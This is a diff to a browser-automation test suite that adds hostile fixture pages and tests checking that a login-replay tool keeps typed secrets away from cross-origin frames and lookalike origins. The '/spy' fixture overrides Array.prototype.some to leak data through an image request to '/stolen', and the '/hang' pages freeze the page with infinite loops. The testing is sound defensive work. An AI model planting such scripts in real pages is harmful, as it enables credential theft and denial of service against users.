@@ -42,6 +42,18 @@ addEventListener('click', event => {
 ${shadow('<style>input { font-size: 40px }</style><input id="shadowed">')}`),
   '/frame': page('<style>input { font-size: 40px }</style><input id="framed">'),
   '/in': page(account),
+  // Is busy as soon as it is asked what it has stored.
+  '/busy': page(`${account}<script>Object.defineProperty(window, 'localStorage', { get() {
+  for (const end = Date.now() + 12_000; Date.now() < end; );
+  return {};
+} });</script>`),
+  '/hang-later': page('<button onclick="setTimeout(() => { for (;;); }, 100)">Log in</button>'),
+  '/hang': page('<input><script>addEventListener("keydown", () => { for (;;); });</script>'),
+  // An advertisement that reads whatever a function of its document is called with.
+  '/spy': page(`<p>Advertisement</p><script>
+const { some } = Array.prototype;
+Array.prototype.some = function (...given) { new Image().src = '/stolen?' + this; return some.apply(this, given); };
+</script>`),
 };
 
 type Answer = { status: number; headers: Record<string, string>; body: string };
@@ -57,6 +69,8 @@ addEventListener('fetch', event => event.respondWith(Response.error()));`),
   if (path === '/clicked')
     return html(page(cookie.includes('clicked=csstextThirdfourinner') ? account : `<p>${cookie}</p>`));
   if (path === '/leave') return { status: 302, headers: { location: `${other.url}/in` }, body: '' };
+  if (path === '/with-spy') return html(page(`<input><iframe src="${other.url}/spy"></iframe>`));
+  if (path === '/lookalike') return { status: 302, headers: { location: `${other.url}/frame` }, body: '' };
   const body = pages[path];
   return body === undefined ? { status: 404, headers: {}, body: '' } : html(body);
 };
@@ -157,6 +171,46 @@ suite('a login that stands in the way of its replay', () => {
     const [one, two] = [await see('AAAAAAAA'), await see('iiiiiiii')];
     const different = one.filter((value, place) => Math.abs(value - (two[place] ?? 0)) > 60).length;
     assert.ok(different < 2_000, `${different} values differ`);
+  });
+
+  test('what was typed stays secret to frames of other origins, when a failure is pictured', async () => {
+    headers.length = 0;
+    const steps = [
+      at('/with-spy'),
+      { type: 'change', selectors: ['input'], value: `\${PASSWORD}` },
+      { type: 'click', selectors: ['#missing'] },
+    ];
+    const { seen } = await fail('/in', { login: { timeout: 2_000, steps }, secrets: { PASSWORD: 'typed-password' } });
+    assert.ok(seen?.picture);
+    assert.ok(headers.some(({ path }) => path === '/spy'));
+    assert.ok(!headers.some(({ path }) => path === '/stolen'));
+  });
+
+  test('a secret is typed into no page of an origin that nobody named', async () => {
+    const typing = { type: 'change', selectors: ['input'], value: `\${PASSWORD}` };
+    const secrets = { PASSWORD: 'typed-password' };
+    const { code, message } = await fail('/in', { login: { steps: [at('/lookalike'), typing] }, secrets });
+    assert.equal(code, 'login_failed');
+    assert.match(message, new RegExp(`would type a secret into ${other.url}, which neither`));
+    const assertedEvents = [{ type: 'navigation', url: `${other.url}/frame` }];
+    await measure('/in', { login: { steps: [{ ...at('/lookalike'), assertedEvents }, typing] }, secrets, expect });
+  });
+
+  test('a page that hangs in a step fails the login', async () => {
+    const steps = [
+      at('/hang'),
+      { type: 'click', selectors: ['input'] },
+      ...['a', 'b'].map(key => ({ type: 'keyDown', key })),
+    ];
+    const { message } = await fail('/in', { login: { timeout: 8_000, steps } });
+    assert.match(message, /Step [34] of 4 .*did not answer|hung|hang/);
+    const last = [at('/hang-later'), { type: 'click', selectors: ['button'] }];
+    const { code } = await fail('/in', { login: { timeout: 8_000, steps: last } });
+    assert.match(code, /^(login_failed|page_timeout)$/);
+  });
+
+  test('a page that is too busy to answer soon is not called a login page', async () => {
+    await measure('/busy', { cookies: [{ name: 'sid', value: 'a session' }], expect });
   });
 
   test('a login reaches no address that a page could not reach', async () => {
